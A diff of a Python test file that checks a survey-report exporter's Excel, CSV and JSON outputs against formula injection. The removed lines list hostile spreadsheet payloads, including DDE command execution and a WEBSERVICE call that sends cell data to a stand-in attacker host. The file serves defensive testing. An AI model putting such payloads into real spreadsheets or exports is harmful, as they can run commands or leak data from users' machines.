@@ -2,123 +2,175 @@
 
 import csv
 import io
+import json
 import zipfile
-from collections.abc import Callable
+from collections.abc import Iterator
+from dataclasses import dataclass
+from datetime import date
+from functools import cache
+from itertools import cycle, islice
+from typing import Any
 
 import openpyxl
 import pytest
+from pydantic import BaseModel
 
 from data.exports.content import ReportContent
 from data.exports.formats import FORMATS
-from surveys.drafting import draft_edition
-from surveys.instrument import Edition, ItemWording
+from data.exports.slips import write_links_csv
+from scoring.report import DivergenceReport
+from surveys.instrument import Edition, Wording
+from surveys.library import shipped_edition
+from tests.data.exports.conftest import report_of
+from tests.hostile.formulas import FORMULAS
+from tests.pages.results.handmade import compared
 
-Make = Callable[..., ReportContent]
-
-PAYLOADS = (
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(A1:A9)",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example","click")',
-    '=IMPORTXML("http://evil.example","//a")',
-    '=WEBSERVICE("http://evil.example/"&A1)',
-    '=DDE("cmd","/C calc","x")',
-    "+cmd|' /C calc'!A0",
-    "-cmd|' /C calc'!A0",
-    "@cmd|' /C calc'!A0",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(A1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "\u00a0=1+1",
-    "\u200b=1+1",
-    "\ufeff=1+1",
-    "\u202e=1+1",
-    "\x00=1+1",
-    '"=1+1',
-    "Court;=1+1",
-    'Court"";=1+1',
-    "http://evil.example/",
-    "mailto:a@evil.example",
-    "internal:Sheet1!A1",
-    "external:c:/windows/system32",
-    "{=1+1}",
-    "<script>alert(1)</script>",
-    "![](http://evil.example/p.gif)",
-)
-SMALL = draft_edition(("q1", "q2"), scale=(1, 4), instrument_id="small", title="Small")
-FORMULA_STARTS = tuple("=+-@＝＋－＠")
+SIGNS = tuple("=+-@＝＋－＠﹢﹣﹦﹫")
+DELIMITERS = (",", ";", "\t")
+NOT_WORDS = {"language", "translation"}
+QUICK = (0, 37, 71)
 
 
-def hostile(edition: Edition, payload: str) -> Edition:
-    """The edition with the payload as its first statement, its title and its first section."""
-    wordings = {}
-    for language, wording in edition.wordings.items():
-        first = edition.instrument.items[0]
-        section = wording.sections[first.section].model_copy(update={"title": payload})
-        wordings[language] = wording.model_copy(
-            update={
-                "title": payload,
-                "items": {**wording.items, first.id: ItemWording.model_construct(text=payload)},
-                "sections": {**wording.sections, first.section: section},
-            }
-        )
-    return edition.model_copy(update={"wordings": wordings})
+def in_every_place(value: Any, words: Iterator[str]) -> Any:
+    """The same with the next of the words in place of each text."""
+    if isinstance(value, str):
+        return next(words)
+    if isinstance(value, dict):
+        return {key: in_every_place(inside, words) for key, inside in value.items()}
+    if isinstance(value, BaseModel):
+        names = set(type(value).model_fields) - NOT_WORDS
+        said = {name: in_every_place(getattr(value, name), words) for name in sorted(names)}
+        return value.model_copy(update=said)
+    return value
 
 
-@pytest.fixture
-def hostile_content(make_content: Make) -> Callable[[str], ReportContent]:
-    def make(payload: str) -> ReportContent:
-        return make_content(
-            edition=hostile(SMALL, payload),
-            people=(12, 3, 11),
-            group_names={code: {"en": payload, "es": payload} for code in ("g1", "g2", "g3")},
-            title=payload,
-            team=payload,
-            warnings=(payload,),
-        )
-
-    return make
+@cache
+def base() -> tuple[Edition, DivergenceReport]:
+    """A questionnaire with facts, and a result with something withheld and groups compared."""
+    edition = shipped_edition("values_open")
+    asked = {fact.id: dict.fromkeys(fact.options, 9) for fact in edition.instrument.facts}
+    return edition, compared(report_of(edition, people=(12, 3, 11), facts=asked))
 
 
-@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
-def test_no_cell_of_the_workbook_is_a_formula_or_a_link(
-    payload: str, hostile_content: Callable[[str], ReportContent]
-) -> None:
-    written = FORMATS["xlsx"].write(hostile_content(payload))
-    book = openpyxl.load_workbook(io.BytesIO(written))
-    for sheet in book:
-        for row in sheet.iter_rows():
-            for cell in row:
-                assert cell.data_type in ("s", "n")
-                assert cell.hyperlink is None
-                if isinstance(cell.value, str) and cell.value.lstrip(" \"'").startswith(
-                    FORMULA_STARTS
-                ):
-                    assert cell.quotePrefix
+def hostile_content(turn: int) -> ReportContent:
+    """A result with a payload in every place; each turn moves them on by one place."""
+    edition, report = base()
+    words = islice(cycle(FORMULAS), turn, None)
+    wordings: dict[str, Wording] = in_every_place(dict(edition.wordings), words)
+    terms = {"owner": next(words), "permission": next(words), "license": next(words)}
+    told = edition.instrument.model_copy(update=terms)
+    groups = {code: {"en": next(words), "es": next(words)} for code in ("g1", "g2", "g3")}
+    return ReportContent(
+        report=report,
+        edition=edition.model_copy(update={"wordings": wordings, "instrument": told}),
+        languages=("en", "es"),
+        group_names=groups,
+        title=next(words),
+        sha256="0" * 64,
+        team=next(words),
+        opened_on=date(2026, 11, 2),
+        closes_on=date(2026, 11, 20),
+        warnings=(next(words), next(words)),
+    )
+
+
+def is_live(cell: str) -> bool:
+    """A program that skips spaces, quotes and what nobody sees would find a formula here."""
+    seen = "".join(sign for sign in cell if sign.isprintable() or sign == " ")
+    return seen.strip().lstrip('" ').startswith(SIGNS)
+
+
+def check_workbook(written: bytes) -> int:
+    """No formula, no link; how many cells were only kept quiet by their mark."""
+    quiet = 0
+    for sheet in openpyxl.load_workbook(io.BytesIO(written)):
+        for cell in (each for row in sheet.iter_rows() for each in row if each.value is not None):
+            assert cell.data_type in ("s", "n")
+            assert cell.hyperlink is None
+            if isinstance(cell.value, str) and cell.value.lstrip(" \"'`").startswith(SIGNS):
+                assert cell.quotePrefix, cell.value
+                quiet += 1
     with zipfile.ZipFile(io.BytesIO(written)) as parts:
         everything = b"".join(parts.read(name) for name in parts.namelist())
-        assert b"<f>" not in everything
-        assert b"<hyperlink" not in everything
-        assert not any("externalLink" in name for name in parts.namelist())
+        assert not any(b"externalLink" in name.encode() for name in parts.namelist())
+    for mark in (b"<f>", b"<f ", b"<hyperlink", b"<ddeLink", b"TargetMode", b"<definedName"):
+        assert mark not in everything, mark
+    return quiet
 
 
-@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
-def test_no_cell_of_the_csv_opens_a_formula_whatever_a_program_splits_on(
-    payload: str, hostile_content: Callable[[str], ReportContent]
-) -> None:
-    text = FORMATS["csv"].write(hostile_content(payload)).decode("utf-8-sig")
-    for delimiter in (",", ";", "\t"):
-        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
-            for cell in row:
-                assert not cell.strip().startswith(FORMULA_STARTS), cell
+def check_table(written: bytes) -> int:
+    """No cell is live whatever a program splits on; how many it would have been."""
+    text = written.decode("utf-8-sig")
+    for delimiter in DELIMITERS:
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+            assert not [cell for cell in row if is_live(cell)], delimiter
+    for delimiter in DELIMITERS[1:]:  # as a program that does not know of quotes
+        split = (cell for line in text.split("\r\n") for cell in line.split(delimiter))
+        assert not [cell for cell in split if is_live(cell)], delimiter
     lines = text.split("\r\n")
     assert lines.pop() == ""
-    assert len(lines) == len(list(csv.reader(io.StringIO(text))))
+    assert len(lines) == len(list(csv.reader(io.StringIO(text, newline=""))))
     assert all(line.startswith('"') and line.endswith('"') for line in lines)
+    return text.count("\"'")
+
+
+def check_plain(written: bytes) -> int:
+    """Valid JSON, whose texts are texts; how many payloads it holds."""
+
+    def texts(value: Any) -> Iterator[str]:
+        if isinstance(value, str):
+            yield value
+        elif isinstance(value, dict | list):
+            for inside in value.values() if isinstance(value, dict) else value:
+                yield from texts(inside)
+
+    return sum(text in FORMULAS for text in texts(json.loads(written)))
+
+
+CHECKS = {"xlsx": check_workbook, "csv": check_table, "json": check_plain}
+
+
+def test_there_are_a_hundred_payloads_and_every_format_has_its_check() -> None:
+    assert len(set(FORMULAS)) == 100
+    assert set(CHECKS) == set(FORMATS)
+
+
+@pytest.mark.parametrize("form", FORMATS)
+@pytest.mark.parametrize("turn", QUICK)
+def test_no_export_holds_anything_live_whatever_stands_in_every_place(turn: int, form: str) -> None:
+    assert CHECKS[form](FORMATS[form].write(hostile_content(turn))) > 20
+
+
+@pytest.mark.long
+@pytest.mark.parametrize("form", FORMATS)
+def test_no_export_holds_anything_live_with_every_payload_in_every_place(form: str) -> None:
+    for turn in range(len(FORMULAS)):
+        assert CHECKS[form](FORMATS[form].write(hostile_content(turn))) > 20
+
+
+@dataclass(frozen=True)
+class PaperSlip:
+    group_code: str
+    group_name: dict[str, str]
+    secret: str
+    url: str
+
+
+def test_a_list_of_links_holds_nothing_live_whatever_groups_and_waves_are_called() -> None:
+    slips = [
+        PaperSlip("g", {"en": payload, "es": payload}, "s", "https://a.example/join/s")
+        for payload in FORMULAS
+    ]
+    for title in FORMULAS:
+        written = write_links_csv(slips, title=title, closes_on=date(2026, 12, 12), language="es")
+        assert check_table(written) > 20
+
+
+@pytest.mark.parametrize("payload", FORMULAS, ids=ascii)
+def test_the_check_of_tables_would_find_a_payload_that_nobody_guards(payload: str) -> None:
+    opens = is_live(payload) or any(is_live(part) for part in payload.split(";"))
+    sheet = io.StringIO(newline="")
+    csv.writer(sheet, lineterminator="\r\n").writerows([["a", payload, "b"]])
+    if opens:
+        with pytest.raises(AssertionError):
+            check_table(sheet.getvalue().encode("utf-8-sig"))
